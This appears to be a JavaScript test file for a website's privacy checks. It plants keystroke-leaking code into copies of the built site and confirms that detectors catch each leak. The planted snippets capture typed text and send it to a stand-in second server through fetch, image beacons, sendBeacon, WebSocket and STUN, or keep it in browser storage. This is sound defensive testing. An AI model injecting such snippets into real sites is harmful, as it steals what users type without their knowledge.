// Planted leaks: copies of the built site that tell or keep what is typed, each in another way. The checks of privacy_run.test.mjs must find every one, and
// so must they where no header protects the page: then the leak truly happens.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test, { after, before } from 'node:test';
import sirv from 'sirv';
import { serve } from '../../scripts/server.mjs';
import { port_of, site } from './hosts.mjs';
import { check_disk, check_net_log, check_requests, check_scripts, check_storage, files_of, watched_browser } from './privacy_checks.mjs';
import { input, saved_words } from './saved_page.mjs';

// What each does with the text that was typed (v); THERE is another server, STUN one that hears UDP. Which checks find it: r(equests), s(torage), n(et log),
// d(isk), names of means in the scripts (m). First as the site is served, then without any header.
const leaks = {
  fetch: ['fetch(`/x?${v}`)', 'rn', 'rn'],
  post: ["fetch('/x', { method: 'POST', body: v })", 'rn', 'rn'],
  elsewhere: ["fetch(`THERE/x?${v}`, { mode: 'no-cors' })", 'r', 'rn'],
  image: ['new Image().src = `THERE/i?${v}`', 'r', 'rn'],
  beacon: ["navigator.sendBeacon('/b', v)", 'rnm', 'rnm'],
  stun: ["const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] }); p.createDataChannel('x'); p.setLocalDescription(await p.createOffer())", 'm', 'nm'],
  socket: ["new WebSocket(`${'THERE'.replace('http', 'ws')}/${v}`)", 'm', 'rnm'],
  fragment: ["history.replaceState(history.state, '', `#${v}`)", 'sd', 'sd'],
  query: ["history.replaceState(history.state, '', `?v=${v}`)", 'sd', 'sd'],
  state: ["history.replaceState({ v }, '')", 's', 's'],
  title: ['document.title = v', 's', 's'],
  local: ["localStorage.setItem('v', v)", 'sdm', 'sdm'],
  cookie: ["document.cookie = `v=${v}; max-age=9999`", 'sm', 'sm'],
  database: ["await new Promise((ok) => { const o = indexedDB.open(v); o.onupgradeneeded = () => o.result.createObjectStore('v').put(v, 1); o.onsuccess = ok; })", 'sdm', 'sdm'],
  cache: ["await (await caches.open('v')).put('/v', new Response(v))", 'sd', 'sd'],
  worker: ["await navigator.serviceWorker.register('/sw.js')", 'rsm', 'rsm'],
};

const folders = [];
const scratch = (name) => { const folder = mkdtempSync(join(tmpdir(), `iura-${name}-`)); folders.push(folder); return folder; };
const canary = (name) => `Kanarie${name}7351942`;
const heard = [];
let there;
let stun;
before(async () => {
  there = createServer(({ url }, response) => { heard.push(url); response.end(); }).listen(0, '127.0.0.1');
  stun = createSocket('udp4', () => {}).on('message', () => heard.push('udp'));
  stun.bind(0, '127.0.0.1');
  await Promise.all([once(there, 'listening'), once(stun, 'listening')]);
});
after(() => { there.close(); stun.close(); for (const folder of folders) rmSync(folder, { recursive: true, force: true }); });

/** A copy of the site whose first script also does this with all that is typed. */
function planted(name, leak) {
  const folder = scratch(`leak-${name}`);
  cpSync(site, folder, { recursive: true, filter: (path) => !path.endsWith('.br') && !/\/(testboek|cahier-de-tests|embed)(\/|$)|workbench/.test(path.slice(site.length)) });
  const main = readdirSync(join(folder, 'assets')).find((file) => /^main\..*\.js$/.test(file));
  const code = leak.replaceAll('THERE', `http://127.0.0.1:${port_of(there)}`).replaceAll('STUN', `127.0.0.1:${port_of(stun)}`);
  const path = join(folder, 'assets', main);
  writeFileSync(path, `${readFileSync(path, 'utf8')};addEventListener('input', async ({ target: { value: v } }) => { ${code}; window.leaked = true; }, true);`);
  writeFileSync(join(folder, 'sw.js'), '');
  const page = join(folder, 'nl/index.html');
  writeFileSync(page, readFileSync(page, 'utf8').replace(/(<script type="module"[^>]*?) integrity="[^"]*"/, '$1'));
  return folder;
}

/** The same files, and no header but what they are. */
async function serve_bare(_, folder) {
  const server = createServer(sirv(folder, {})).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

for (const [how, start, found_by] of [['with our headers', serve, 1], ['without any header', serve_bare, 2]]) {
  test(`each of ${Object.keys(leaks).length} planted leaks is found, ${how}`, { timeout: 240_000 }, async () => {
    const watched = await watched_browser();
    const { context, record } = watched;
    const found = Object.fromEntries(Object.keys(leaks).map((name) => [name, '']));
    const origins = [];
    const servers = [];
    heard.length = 0;
    for (const [name, [leak]] of Object.entries(leaks)) {
      const folder = planted(name, leak);
      const server = await start(0, folder);
      servers.push(server);
      const origin = `http://127.0.0.1:${port_of(server)}`;
      origins.push(origin);
      const value = new Set([canary(name)]);
      const page = await context.newPage();
      page.setDefaultTimeout(8000);
      const first = record.length;
      await page.goto(`${origin}/nl/`);
      await page.waitForSelector('html[data-ready="true"]');
      const ready = record.length - first;
      await page.getByRole('button', { name: saved_words.nl.resume.open, exact: true }).first().click();
      await page.locator(input.code).fill(canary(name));
      await page.waitForTimeout(250);
      const told = (by, complaints) => { if (complaints.length > 0) found[name] += by; };
      // The worker’s file is one of the site: it is asked for when nothing should be.
      told('r', check_requests(record.slice(first), { origins: [origin], files: files_of(folder), canaries: value, ready }));
      told('s', await check_storage(page, value));
      found[name] = found[name].split('').sort((a, b) => 'rsndm'.indexOf(a) - 'rsndm'.indexOf(b)).join('');
      found[`${name} m`] = check_scripts(folder).length > 0 ? 'm' : '';
      await page.close();
    }
    await context.close();
    for (const name of Object.keys(leaks)) {
      const value = new Set([canary(name)]);
      const log = check_net_log(watched.net_log, { origins, canaries: value, ...(name === 'stun' ? {} : { udp: /./ }) });
      // Others in the same browser asked of elsewhere: here only what tells of this value, or of UDP.
      if (log.some((complaint) => complaint.includes(canary(name)) || (name === 'stun' && complaint.startsWith('UDP')))) found[name] += 'n';
      if (check_disk(watched.profile, value).length > 0) found[name] += 'd';
      found[name] += found[`${name} m`];
      delete found[`${name} m`];
    }
    for (const server of servers) server.close();
    const missed = Object.entries(leaks).flatMap(([name, one]) => [...one[found_by]].filter((by) => !found[name].includes(by)).map((by) => `${name}: not by ${by} (${found[name]})`));
    assert.deepEqual(missed, []);
    // Without the headers what was planted truly got out.
    if (found_by === 2) for (const way of [/^\/x\?Kanarie/, /^\/i\?Kanarie/, /^udp$/]) assert.ok(heard.some((url) => way.test(url)), String(way));
    else assert.deepEqual(heard, []);
    rmSync(watched.folder, { recursive: true, force: true });
  });
}

test('a whole site, and what belongs to it, is no leak: no check complains of it', async () => {
  const server = await serve(0);
  const origin = `http://127.0.0.1:${port_of(server)}`;
  const watched = await watched_browser();
  const value = new Set([canary('none')]);
  const page = await watched.context.newPage();
  await page.goto(`${origin}/nl/`);
  await page.waitForSelector('html[data-ready="true"]');
  const ready = watched.record.length;
  await page.getByRole('button', { name: saved_words.nl.resume.open, exact: true }).first().click();
  await page.locator(input.code).fill(canary('none'));
  await page.waitForTimeout(250);
  assert.deepEqual([check_requests(watched.record, { origins: [origin], files: files_of(site), canaries: value, ready }), await check_storage(page, value), check_scripts(site)], [[], [], []]);
  await watched.context.close();
  assert.deepEqual([check_net_log(watched.net_log, { origins: [origin], canaries: value }), check_disk(watched.profile, value)], [[], []]);
  server.close();
  rmSync(watched.folder, { recursive: true, force: true });
});
